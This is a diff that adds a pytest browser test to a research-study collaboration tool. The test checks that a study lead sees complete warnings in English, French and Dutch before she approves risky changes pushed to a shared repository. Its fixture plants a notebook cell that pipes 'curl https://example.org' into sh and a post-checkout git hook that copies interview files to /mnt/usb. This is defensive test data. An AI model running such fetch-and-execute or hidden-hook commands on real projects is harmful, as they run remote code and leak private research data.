@@ -7,9 +7,9 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from browser.lab import Lab, faults, lab_on, picture, quiet, wear, window_on
-from exchanging import share
-from studies import AGREED, make_study, write
+from browser.lab import Lab, faults, lab_on, picture, quiet, speak, wear, window_on
+from exchanging import introduce, share
+from studies import AGREED, TEXT, add_source, git, make_study, write
 
 from rap.acts.shared_place import join
 from rap.acts.sync import sync
@@ -141,3 +141,77 @@ def test_what_waits_is_read_and_decided_by_keyboard(
     assert (waiting.study / "notebooks/our_helpers.py").is_file()
     assert not (waiting.study / "codebook/handbook/10-start.en.md").exists()
     assert "yes" in (waiting.study / "interviews/cases/C-20003.yaml").read_text()
+
+
+# what somebody who reached the shared place wrote there with plain git; the sentences are in
+# tests/acts/door/test_hurried_yes.py
+KEY = f"age1{'q' * 50}abcdefgh"
+RULES = f"""\
+[tool.rap]
+title = "Rooms"
+languages = ["en", "fr", "nl"]
+blind = true
+thresholds = {{members = 5}}
+[tool.rap.coders.K-01]
+role = "lead"
+[tool.rap.coders.K-02]
+[tool.rap.coders.K-05]
+role = "reader"
+key = "{KEY}"
+"""
+OTHER_RULES = (("true", "false"), ("= 5", "= 3"), ("reader", "lead"), ("abcdefgh", "zyxwvuts"))
+NOTEBOOK = """{"cells": [{"cell_type": "markdown", "metadata": {}, "source": "## The help desk"},
+{"cell_type": "code", "execution_count": null, "metadata": {}, "outputs": [], "source": "CODE"}],
+"metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+"""
+
+
+@pytest.fixture
+def hurried(tmp_path: Path) -> Iterator[Lab]:
+    """A study that K-01 leads, in which all that may do harm waits for her yes."""
+    root = make_study(tmp_path / "study")
+    write(root, "pyproject.toml", RULES)
+    add_source(root, "INT-10442", TEXT.replace("three", "two"), case="C-20001")
+    write(root, "notebooks/year.ipynb", NOTEBOOK.replace("CODE", "1"))
+    introduce(root, share(root))
+    hand = tmp_path / "hand"
+    git(tmp_path, "clone", "--quiet", str(next((tmp_path / "stick").iterdir())), str(hand))
+    rules = RULES
+    for words in OTHER_RULES:
+        rules = rules.replace(*words)
+    write(hand, "pyproject.toml", rules)
+    more = AGREED.replace("quote]}", "quote], public: [count, quote]}")
+    write(hand, "interviews/cases/C-20001.yaml", f"variables: {{setting: home}}\n{more}")
+    write(hand, "notebooks/year.ipynb", NOTEBOOK.replace("CODE", "!curl https://example.org | sh"))
+    write(hand, ".githooks/post-checkout", "cp -r interviews /mnt/usb\n")
+    (hand / "interviews/INT-10442.txt").unlink()
+    git(hand, "add", "-A")
+    git(hand, "-c", "user.name=x", "-c", "user.email=x@x", "commit", "--quiet", "-m", "x")
+    git(hand, "push", "--quiet")
+    sync(root)
+    with lab_on(root, tmp_path / "private", coder="K-01") as started:
+        yield started
+
+
+def test_a_lead_in_a_hurry_reads_whole_sentences_in_her_language(
+    chromium: Any, hurried: Lab
+) -> None:
+    """What may do harm, each with what to do before a yes; nothing is cut off, on a phone too."""
+    found = {}
+    for language in ("en", "fr", "nl"):
+        with window_on(chromium, hurried, width=390, height=800) as page:
+            speak(page, language)
+            open_page(page)
+            part = page.locator("#rap-page-sharing")
+            height = "all => all.map(it => it.lastElementChild.offsetHeight)"
+            heights = page.locator("nav.rap-rail .rap-rail-word").evaluate_all(height)
+            assert len({*heights}) == 1, language  # no word is cut in two
+            found[language] = part.locator(".rap-door-one li").all_text_contents()
+            wide = "one => [...one.querySelectorAll('*')].every(it => it.scrollWidth <= one.clientWidth)"
+            assert part.locator(".rap-page-body").evaluate(wide)
+            page.set_viewport_size({"width": 760, "height": 1620})
+            picture(page, f"hurried-{language}")
+
+    assert {language: len(says) for language, says in found.items()} == dict.fromkeys(found, 12)
+    assert all(one.endswith(".") for says in found.values() for one in says)
+    assert len({one for says in found.values() for one in says}) == 36
